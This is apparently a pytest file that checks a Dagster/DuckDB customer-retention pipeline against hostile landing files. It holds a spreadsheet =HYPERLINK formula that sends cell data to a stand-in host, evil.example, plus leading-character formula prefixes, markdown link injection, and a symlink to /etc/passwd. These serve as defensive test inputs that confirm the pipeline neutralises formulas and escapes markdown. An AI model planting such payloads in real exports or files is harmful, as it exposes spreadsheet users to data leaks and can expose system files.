"""Faults end to end: odd and hostile landing files, a run that ran out of memory, two runs at once.

One landing folder holds what a hostile but realistic user lands: a Latin-1 file among UTF-8 ones, a line of
3 MB, a link to /etc/passwd, customer ids that are matplotlib mathtext and names, emails and segments that
are spreadsheet formulas and markdown. Its first ingest runs with a 2 MB DuckDB memory limit, as in the
issue that found these faults, and leaves files for the next run. Then two `retention run` start at once on
one DAGSTER_HOME: the recovering one on that warehouse, and a clean build of a copy of the landing folder in
a warehouse of its own. One waits for the other; both succeed, and every mart of the recovered warehouse
equals the clean build's. The checks that stop a run before anything runs come last, one CLI call each.
"""

from __future__ import annotations

import csv
import shutil
import subprocess
import sys
import time
from pathlib import Path

import dagster as dg
import duckdb
import pytest

from pipeline.ingest.assets import MANIFEST_KEY, Landing, ingest_landing_files
from pipeline.lib.run_guard import lock_files
from pipeline.lib.warehouse import Warehouse
from pipeline.sample_data import generate
from pipeline.settings import load_settings
from tests.cli_runs import pipeline_env, retention
from tests.lib.holders import LOCK_HOLDER, Holder

MATHTEXT_ID = "$\\undefinedcmd$"  # once failed the report: `ParseFatalException: Unknown symbol`
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SEGMENT_PREFIX = "@"  # a formula start for a spreadsheet
SEGMENT_SUFFIX = " **[x](http://evil.example)|**"  # a link and a table cell for Dagster's markdown


def _rewrite_csv(path: Path, change) -> None:
    with path.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]) if rows else ["customer_id"])
        writer.writeheader()
        writer.writerows(change(row) for row in rows)


def _make_hostile(landing: Path) -> None:
    """Every CSV customer id mathtext, every name a formula, every email and segment one too."""
    for path in sorted(landing.glob("*/*.csv")):
        text = path.read_text(encoding="utf-8")
        path.write_text(text.replace("cus_", MATHTEXT_ID + "cus_"), encoding="utf-8")

    def hostile(row: dict) -> dict:
        return {**row, "name": FORMULA + " " + row["name"], "email": "-" + row["email"],
                "segment": SEGMENT_PREFIX + row["segment"] + SEGMENT_SUFFIX}

    for path in sorted((landing / "customers").glob("*.csv")):
        _rewrite_csv(path, hostile)


def _add_odd_files(landing: Path) -> None:
    invoices = sorted((landing / "invoices").glob("*.csv"))
    latin = invoices[len(invoices) // 2]
    latin.write_bytes(latin.read_text(encoding="utf-8").replace("inv_", "inv\u00e4_", 1).encode("latin-1"))
    long_file = invoices[len(invoices) // 3]
    lines = long_file.read_text(encoding="utf-8").splitlines()
    fields = lines[1].split(",")
    fields[0], fields[4] = "inv_long", "x" * 3_000_000  # an amount of 3 MB: quarantined, the file's rows load
    long_file.write_text("\n".join([*lines, ",".join(fields)]) + "\n", encoding="utf-8")
    (landing / "customers" / "passwd.csv").symlink_to("/etc/passwd")


@pytest.fixture(scope="module")
def runs(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("faults")
    home = tmp / "dagster_home"
    recovered, clean = tmp / "recovered", tmp / "clean"
    for folder in (recovered, clean, home):
        folder.mkdir()
    generate(recovered / "landing", customers=150, seed=11)
    _make_hostile(recovered / "landing")
    _add_odd_files(recovered / "landing")
    shutil.copytree(recovered / "landing", clean / "landing", symlinks=True)

    # The first ingest with 2 MB of memory, as the Dagster job does it: files are left for the next run.
    with dg.DagsterInstance.ephemeral() as instance:
        starved = dg.materialize([ingest_landing_files], instance=instance, resources={
            "landing": Landing(path=str(recovered / "landing")),
            "warehouse": Warehouse(path=str(recovered / "warehouse.duckdb"), memory_limit="2MB", threads=1)})
    manifest = next(m.metadata for m in starved.asset_materializations_for_node("ingest_landing_files")
                    if m.asset_key == MANIFEST_KEY)

    env = {**pipeline_env(recovered), "DAGSTER_HOME": str(home), "RETENTION_EXPORT_DIR": str(recovered / "o'exports")}
    clean_env = {**pipeline_env(clean), "DAGSTER_HOME": str(home)}
    first = subprocess.Popen([sys.executable, "-m", "pipeline", "run"], env=env, text=True,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    home_lock = lock_files(load_settings(dagster_home=home))[1][0]
    while not (home_lock.exists() and home_lock.read_text().strip() == str(first.pid)):  # it holds the lock
        assert first.poll() is None, first.communicate()
        time.sleep(0.05)
    second = retention(["run"], clean_env)
    first_out, first_err = first.communicate()
    return {"tmp": tmp, "env": env, "home": home, "starved": manifest, "first": (first.returncode, first_out, first_err),
            "second": second}


def _marts(warehouse: Path) -> dict[str, tuple]:
    """Row count and an order-independent hash of every table in the marts schema."""
    with duckdb.connect(str(warehouse), read_only=True) as con:
        tables = [t for (t,) in con.execute(
            "SELECT table_name FROM information_schema.tables WHERE table_schema = 'marts' ORDER BY 1").fetchall()]
        return {t: con.execute(f'SELECT count(*), coalesce(sum(hash(m)), 0) FROM marts."{t}" m').fetchone() for t in tables}


def test_the_starved_ingest_left_files_for_the_next_run_and_said_so(runs):
    deferred = runs["starved"]["deferred_files"].value
    assert "left for the next run" in deferred and "Out of Memory" in deferred
    with duckdb.connect(str(runs["tmp"] / "clean" / "warehouse.duckdb"), read_only=True) as clean:
        clean_files = clean.execute("SELECT count(*) FROM ingest.manifest").fetchone()[0]
    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
        errors = con.execute("SELECT count(*) FROM ingest.manifest WHERE error IS NOT NULL").fetchone()[0]
        files = con.execute("SELECT count(DISTINCT path) FROM ingest.manifest").fetchone()[0]
    assert errors == 0 and files == clean_files, "no transient failure was recorded as a verdict"


def test_two_runs_at_once_on_one_dagster_home_both_succeed_one_after_the_other(runs):
    code, out, err = runs["first"]
    assert code == 0, err[-3000:]
    second = runs["second"]
    assert second.returncode == 0, second.stderr[-3000:]
    assert "Another run is using this DAGSTER_HOME (PID" in second.stderr
    assert "Traceback" not in err + second.stderr


def test_the_recovered_marts_equal_a_clean_build(runs):
    recovered = _marts(runs["tmp"] / "recovered" / "warehouse.duckdb")
    clean = _marts(runs["tmp"] / "clean" / "warehouse.duckdb")
    assert len(recovered) >= 11 and recovered == clean


def test_odd_files_load_and_links_are_not_read(runs):
    code, out, err = runs["first"]
    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
        latin = con.execute("SELECT count(*) FROM billing.invoices WHERE invoice_id LIKE 'inv\u00e4_%'").fetchone()[0]
        long_row = con.execute("SELECT reason, length(raw_value) FROM ingest.quarantine WHERE raw_record LIKE "
                               "'%inv_long%'").fetchall()
        leaked = con.execute("SELECT count(*) FROM ingest.quarantine WHERE raw_record LIKE '%root:%'").fetchone()[0]
    assert latin > 0 and long_row == [("unparseable_number", 3_000_000)] and leaked == 0
    assert "customers/passwd.csv: is a symbolic link: not followed, not read" in err


def test_the_outreach_export_neutralises_formulas(runs):
    files = list((runs["tmp"] / "recovered" / "o'exports").glob("at_risk_customers_*.csv"))
    assert len(files) == 1
    with files[0].open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    named = [r for r in rows if r["name"]]  # shop-only customers (ids in Parquet, not rewritten) have no CRM row
    assert named and all(r["name"].startswith("'" + FORMULA) for r in named)
    assert all(r["email"].startswith("'-") and r["segment"].startswith("'" + SEGMENT_PREFIX) for r in named)


def test_the_report_draws_mathtext_ids_as_text_and_metadata_escapes_them(runs, monkeypatch):
    with duckdb.connect(str(runs["tmp"] / "recovered" / "warehouse.duckdb"), read_only=True) as con:
        shown = con.execute("SELECT count(*) FROM (SELECT customer_id FROM marts.at_risk_customers "
                            "ORDER BY priority_rank LIMIT 10) WHERE customer_id LIKE '$%'").fetchone()[0]
    assert shown > 0, "the chart of the top at-risk customers has a mathtext id to draw"
    assert (runs["tmp"] / "recovered" / "reports" / "retention_report.html").exists()
    monkeypatch.setenv("DAGSTER_HOME", str(runs["home"]))
    with dg.DagsterInstance.get() as instance:
        event = instance.get_latest_materialization_event(dg.AssetKey(["marts", "at_risk_customers"]))
    top = event.asset_materialization.metadata["top_10"].value
    assert "\\$\\\\undefinedcmd\\$" in top and "\\[x\\]\\(http" in top and "[x](http" not in top


def test_a_missing_landing_folder_stops_the_run_naming_the_variable(tmp_path):
    env = {**pipeline_env(tmp_path), "RETENTION_LANDING_DIR": str(tmp_path / "nowhere")}
    result = retention(["run"], env)
    assert result.returncode == 2
    assert f"RETENTION_LANDING_DIR='{tmp_path / 'nowhere'}' is not accepted" in result.stderr
    assert "--allow-empty" in result.stderr and "Traceback" not in result.stderr


def test_a_warehouse_folder_that_cannot_be_written_stops_the_run_before_it_starts(tmp_path):
    (tmp_path / "landing").mkdir()
    (tmp_path / "a_file").write_text("not a folder")
    env = {**pipeline_env(tmp_path), "RETENTION_WAREHOUSE": str(tmp_path / "a_file" / "warehouse.duckdb")}
    result = retention(["run"], env)
    assert result.returncode == 2
    assert result.stderr.startswith(f"retention: configuration error: RETENTION_WAREHOUSE='{tmp_path / 'a_file'}' is "
                                    f"not accepted: expected a folder this user can write ({tmp_path / 'a_file'} is a "
                                    "file, not a folder)")
    assert "Traceback" not in result.stderr and not (tmp_path / "dagster_home" / "runs.db").exists()


def test_a_run_that_cannot_get_the_lock_in_time_names_the_holder(tmp_path):
    (tmp_path / "landing").mkdir()
    env = pipeline_env(tmp_path)
    warehouse_lock = lock_files(load_settings(warehouse=tmp_path / "warehouse.duckdb"))[0][0]
    with Holder(LOCK_HOLDER, warehouse_lock) as other:
        result = retention(["run", "--wait", "0.5"], env)
    assert result.returncode == 1
    assert f"another run is writing this warehouse (PID {other.pid})" in result.stderr
    assert "Traceback" not in result.stderr
